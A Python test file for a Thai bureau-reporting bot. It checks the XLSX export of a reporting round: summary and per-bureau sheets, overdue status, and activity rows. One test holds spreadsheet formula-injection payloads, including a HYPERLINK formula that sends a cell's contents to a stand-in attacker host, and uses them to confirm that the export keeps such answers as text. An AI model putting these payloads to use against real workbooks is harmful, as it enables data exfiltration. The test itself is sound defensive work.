"""XLSX export of a round: a summary sheet, then one sheet per bureau in the report form's order."""
from __future__ import annotations

from datetime import datetime, timezone

from openpyxl import load_workbook

from bot.services import rounds as svc
from tests.bot.services.test_rounds_support import FY, seed

R6 = f"{FY}-6m"


def _submit(db, w):
    with db() as s:
        rnd = svc.get_round(s, R6)
        draft = svc.open_draft(s, rnd, w.b1, None)
        svc.save_draft(s, draft, {"items": {
            str(w.items[0]): {"done": "จัดกิจกรรม 2 ครั้ง", "result": "ร้อยละ 85", "problems": "ไม่มี",
                              "photos": ["private/a.jpg", "private/b.jpg"]},
            str(w.items[1]): {"done": "ประชุมตรงเวลา", "result": "ร้อยละ 90", "problems": "งานล้น"}}})
        # 14:05 Bangkok on 10 Mar 2026
        svc.submit(s, rnd, w.b1, None, datetime(2026, 3, 10, 7, 5, tzinfo=timezone.utc),
                   counts={str(w.items[0]): {"deeds": 4, "progress": 2, "attendance": 0}})


def test_export_cell_by_cell(app, db, tmp_path):
    w = seed(db, items=2)
    _submit(db, w)
    out = tmp_path / "report.xlsx"
    res = app.test_cli_runner().invoke(args=["export-round", R6, "--out", str(out)])
    assert res.exit_code == 0, res.output
    wb = load_workbook(out)
    assert wb.sheetnames == ["สรุป", "B1", "B2"]
    sm = wb["สรุป"]
    assert sm["A1"].value == "รายงานรอบ 6 เดือน ปีงบประมาณ พ.ศ. 2569"
    assert (sm["A2"].value, sm["B2"].value) == ("กำหนดส่ง", "20 มี.ค. 2569")
    assert [c.value for c in sm[4]] == ["ลำดับ", "รหัสสำนัก", "สำนัก", "สถานะ", "ฉบับที่", "วันที่ส่ง"]
    assert [c.value for c in sm[5]] == [1, "B1", "สำนักทดสอบหนึ่ง", "ส่งแล้ว", 1, "10 มี.ค. 2569 เวลา 14:05 น."]
    # The round was due in March 2026: a bureau that never sent is overdue (as in the status view and digest).
    assert [c.value for c in sm[6]] == [2, "B2", "สำนักทดสอบสอง", "เลยกำหนด ยังไม่ส่ง", None, None]
    ws = wb["B1"]
    assert ws["A1"].value == "รายงานปัญหาที่อยากแก้ ความดีที่อยากทำ ของสำนัก (จัดทำจากข้อมูลในระบบ)"  # not "แบบ…"
    assert [(ws[f"A{r}"].value, ws[f"B{r}"].value) for r in range(2, 9)] == [
        ("สำนัก", "สำนักทดสอบหนึ่ง"), ("รอบรายงาน", "รายงานรอบ 6 เดือน ปีงบประมาณ พ.ศ. 2569"),
        ("ช่วงเวลา", "1 ต.ค. 2568 – 31 มี.ค. 2569"), ("กำหนดส่ง", "20 มี.ค. 2569"), ("สถานะ", "ส่งแล้ว"),
        ("วันที่ส่ง", "10 มี.ค. 2569 เวลา 14:05 น."), ("ฉบับที่", 1)]
    assert [c.value for c in ws[10]] == [
        "ลำดับ", "ปัญหาที่อยากแก้", "ความดีที่อยากทำ", "คุณธรรมเป้าหมาย", "ตัวชี้วัด", "ค่าเป้าหมาย",
        "สิ่งที่ดำเนินการ", "ผลการดำเนินงานตามตัวชี้วัด", "ปัญหาอุปสรรค",
        "รายงานความคืบหน้าของบุคลากร", "รูปหลักฐาน"]
    assert [c.value for c in ws[11]] == [1, "ปัญหา 1", "ความดี 1", "วินัย", "จำนวนบุคลากรที่เข้าร่วม",
                                         "ร้อยละ 80 ของบุคลากรเข้าร่วม", "จัดกิจกรรม 2 ครั้ง", "ร้อยละ 85", "ไม่มี",
                                         2, 2]
    assert [c.value for c in ws[12]][:9] == [2, "ปัญหา 2", "ความดี 2", "วินัย", "จำนวนบุคลากรที่เข้าร่วม",
                                             "ร้อยละ 80 ของบุคลากรเข้าร่วม", "ประชุมตรงเวลา", "ร้อยละ 90", "งานล้น"]
    assert ws["K12"].value == 0 and ws["A10"].font.bold
    # what the bot counts for the whole bureau comes once, below the items (two items share วินัย: not twice)
    tail = [(ws[f"A{r}"].value, ws[f"B{r}"].value) for r in range(14, ws.max_row + 1)]
    assert tail[0][0].startswith("ข้อมูลที่ระบบนับได้ของทั้งสำนัก")
    assert [label for label, _ in tail[1:6]] == [f"ความดีด้าน{v} (ครั้ง)" for v in
                                                  ("พอเพียง", "วินัย", "สุจริต", "จิตอาสา", "กตัญญู")]
    assert tail[6] == ("ผู้เช็กอินกิจกรรมรณรงค์ (ครั้ง)", 0)
    b2 = wb["B2"]
    assert b2["B6"].value == "เลยกำหนด ยังไม่ส่ง" and b2["A11"].value is None  # no items of its own


def test_export_unknown_round(app, db):
    seed(db)
    res = app.test_cli_runner().invoke(args=["export-round", "2569-nope", "--out", "x.xlsx"])
    assert res.exit_code != 0 and "no round" in res.output


def test_answers_that_look_like_formulas_stay_text(app, db, tmp_path):
    w = seed(db, items=1)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "=1+1", "@SUM(A1:A2)"]
    with db() as s:
        rnd = svc.get_round(s, R6)
        draft = svc.open_draft(s, rnd, w.b1, None)
        svc.save_draft(s, draft, {"items": {str(w.items[0]): dict(zip(("done", "result", "problems"), hostile))}})
        svc.submit(s, rnd, w.b1, None, datetime(2026, 3, 10, 7, 5, tzinfo=timezone.utc), counts={})
    out = tmp_path / "report.xlsx"
    assert app.test_cli_runner().invoke(args=["export-round", R6, "--out", str(out)]).exit_code == 0
    row = load_workbook(out)["B1"][11]
    assert [c.value for c in row[6:9]] == hostile
    assert all(c.data_type == "s" for c in row[6:9])  # text cells, not formulas


def test_the_bureau_sheet_lists_its_activities_after_the_pledge_items(app, db, tmp_path):
    from models.activities import Activity, ActivityBureau
    w = seed(db, items=1)
    with db() as s:
        act = Activity(fy=FY, code="2.1.1", name="รณรงค์ปิดไฟ (ทดสอบ)", indicator="ร้อยละพลังงานที่ลด", unit="ร้อยละ",
                       target=5)
        s.add(act)
        s.flush()
        s.add(ActivityBureau(activity_id=act.id, bureau_id=w.b1))
        rnd = svc.get_round(s, R6)
        draft = svc.open_draft(s, rnd, w.b1, None)
        svc.save_draft(s, draft, {"items": {f"a{act.id}": {"status": "done", "done": "รณรงค์ทุกชั้น",
                                                            "result": "ลดลง 6", "result_value": 6,
                                                            "participants": 40, "budget_spent": 1200.0}}})
        svc.submit(s, rnd, w.b1, None, datetime(2026, 3, 10, 7, 5, tzinfo=timezone.utc), counts={})
    out = tmp_path / "report.xlsx"
    assert app.test_cli_runner().invoke(args=["export-round", R6, "--out", str(out)]).exit_code == 0
    ws = load_workbook(out)["B1"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=12)]
    head = next(i for i, r in enumerate(rows) if r[0] == "รหัสกิจกรรม")
    assert rows[head - 1][0] == "กิจกรรมตามแผนบูรณาการที่สำนักรับผิดชอบ"
    assert rows[head + 1][:11] == ["๒.๑.๑", "รณรงค์ปิดไฟ (ทดสอบ)", "ร้อยละพลังงานที่ลด", "ร้อยละ", 5, "ดำเนินการแล้ว",
                                   "รณรงค์ทุกชั้น", 6, "ลดลง 6", 40, 1200]
